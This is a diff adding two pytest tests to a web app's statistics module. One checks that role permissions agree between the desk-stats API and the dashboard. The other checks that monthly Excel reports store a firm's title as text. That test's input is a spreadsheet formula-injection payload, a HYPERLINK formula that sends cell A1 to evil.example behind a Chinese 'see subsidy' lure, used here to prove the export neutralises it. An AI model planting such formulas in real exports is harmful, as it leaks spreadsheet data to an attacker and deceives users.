@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import zipfile
 from dataclasses import dataclass
 from typing import Any
 from zoneinfo import ZoneInfo
@@ -302,3 +303,47 @@ def test_stats_routes_scope_desk_officers_to_their_department(month: Month, clie
 
     hot = client.get("/api/v1/desk/hot-topics", params={"days": 366}, headers=auth_headers(Role.curator))
     assert hot.status_code == 200 and hot.json()["cases"] >= 6
+
+
+@pytest.mark.parametrize("role", list(Role))
+def test_desk_stats_api_and_dashboard_agree_on_who_sees_desk_figures(
+    role: Role, db: Session, client, test_settings
+) -> None:  # type: ignore[no-untyped-def]
+    """One permission (stats.STATS_ROLES): a role that sees the dashboard's desk panel reads the API, and vice versa."""
+    from auth import service as auth_service
+    from web.deps import SESSION_COOKIE
+
+    kw: dict[str, Any] = {}
+    if role == Role.desk:
+        kw["department_id"] = factories.make_department(db).id
+    if role == Role.enterprise:
+        kw["enterprise_id"] = factories.make_enterprise(db).id
+    user = factories.make_user(db, role=role, **kw)
+    token = auth_service.access_token_for(settings=test_settings, user=user)
+    api = client.get("/api/v1/desk/stats", headers={"Authorization": f"Bearer {token}"})
+    client.cookies.set(SESSION_COOKIE, token)
+    page = client.get("/dashboard/data", follow_redirects=False)
+    sees_panel = page.status_code == 200 and "desk" in page.json()
+    assert (api.status_code == 200) == sees_panel == (role in stats.STATS_ROLES), (api.status_code, page.status_code)
+    if sees_panel:
+        assert api.json()["total"] == page.json()["desk"]["total"]
+
+
+def test_monthly_report_writes_firm_text_as_text_never_a_formula(month: Month) -> None:
+    """A firm's title led by "=" stays a string cell in 热点诉求; control characters do not break the file."""
+    firm = principal_for_user(factories.make_user(month.db, role=Role.enterprise))
+    hostile = '=HYPERLINK("http://evil.example/?q="&A1,"点我查看补贴")\x0b\x1f'
+    for n, content in enumerate(RENT[:3]):
+        _submit(
+            month.db, month.settings, firm, at(10 + n, 10), kind="help", channel="web", title=hostile, content=content
+        )
+    data = stats.monthly_report(db=month.db, calendar=CAL, month="2026-03", now=NOW)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert not any("<f>" in xml or "<f " in xml for xml in sheets), "a cell was written as a formula"
+    book = load_workbook(io.BytesIO(data))
+    cells = [c for row in book["热点诉求"].iter_rows() for c in row if "HYPERLINK" in str(c.value)]
+    assert cells, "the hostile title is not in the hot-topic sheet"
+    for cell in cells:
+        assert cell.data_type == "s" and cell.quotePrefix
+        assert cell.value == '=HYPERLINK("http://evil.example/?q="&A1,"点我查看补贴")'
